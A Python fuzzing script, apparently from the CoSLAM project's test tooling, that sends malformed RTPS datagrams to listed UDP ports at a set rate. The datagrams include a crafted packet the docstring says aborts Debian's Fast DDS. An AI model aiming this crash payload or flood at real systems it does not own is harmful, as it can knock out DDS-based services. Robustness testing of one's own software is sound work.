#!/usr/bin/env python3
# SPDX-FileCopyrightText: 2026 The CoSLAM authors
# SPDX-License-Identifier: Apache-2.0
"""Sends hostile datagrams to all ports in use: mutations of recorded ones, recorded ones once more, what aborts Debian's
Fast DDS, nonsense, and mutations of both. Writes how many it sent, and in how many seconds, to a file.

    attack.py --targets 10.77.0.1:8150,10.77.0.1:8160 --recorded FILE --sent FILE --rate 2000 --count 100000
"""

import argparse
import pathlib
import pickle
import random
import signal
import socket
import struct
import sys
import time


def rtps_header(chance):
    return b"RTPS\x02\x03\x01\x0f" + chance.randbytes(12)


def twice_the_statistics(chance):
    """The block that Debian's build expects at the very end, in the middle too."""
    block = struct.pack("<BBH", 0x80, 0x01, 56) + chance.randbytes(56)
    return rtps_header(chance) + block + block


def submessages(chance):
    out = rtps_header(chance)
    for _ in range(chance.randrange(1, 6)):
        body = chance.randbytes(chance.randrange(0, 80))
        kind = chance.choice([0x01, 0x06, 0x07, 0x08, 0x09, 0x0C, 0x0E, 0x12, 0x13, 0x15, 0x16, 0x80])
        out += struct.pack("<BBH", kind, chance.randrange(256), chance.choice([len(body), 0, 0xFFFF])) + body
    return out


def mutated(chance, datagram):
    changed = bytearray(datagram)
    for _ in range(chance.randrange(1, 8)):
        changed[chance.randrange(len(changed))] = chance.randrange(256)
    return bytes(changed[: chance.randrange(1, len(changed) + 1)])


def hostile(chance, recorded):
    kind = chance.randrange(4)
    if kind == 0 or not recorded:
        return chance.choice([twice_the_statistics, submessages])(chance)
    if kind == 1:
        return mutated(chance, chance.choice([twice_the_statistics, submessages])(chance))
    datagram = chance.choice(recorded)
    return datagram if chance.random() < 0.1 else mutated(chance, datagram)


def attack(arguments, counted):
    chance = random.Random(1)
    recorded = pickle.loads(pathlib.Path(arguments.recorded).read_bytes())
    targets = [(host, int(port)) for host, port in (t.split(":") for t in arguments.targets.split(","))]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in range(arguments.count):
        datagram = hostile(chance, recorded)
        try:
            udp.sendto(datagram, targets[i % len(targets)])
        except OSError:
            pass  # nobody at that port any more
        counted["sent"] = i + 1
        time.sleep(max(0.0, counted["begin"] + (i + 1) / arguments.rate - time.monotonic()))


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--targets", required=True)
    parser.add_argument("--recorded", required=True, help="pickled list of datagrams")
    parser.add_argument("--sent", required=True)
    parser.add_argument("--rate", type=float, default=2000)
    parser.add_argument("--count", type=int, default=100000)
    arguments = parser.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    counted = {"sent": 0, "begin": time.monotonic()}
    try:
        attack(arguments, counted)
    finally:
        text = f"{counted['sent']} {time.monotonic() - counted['begin']:.1f}\n"
        pathlib.Path(arguments.sent).write_text(text, encoding="ascii")


if __name__ == "__main__":
    main()
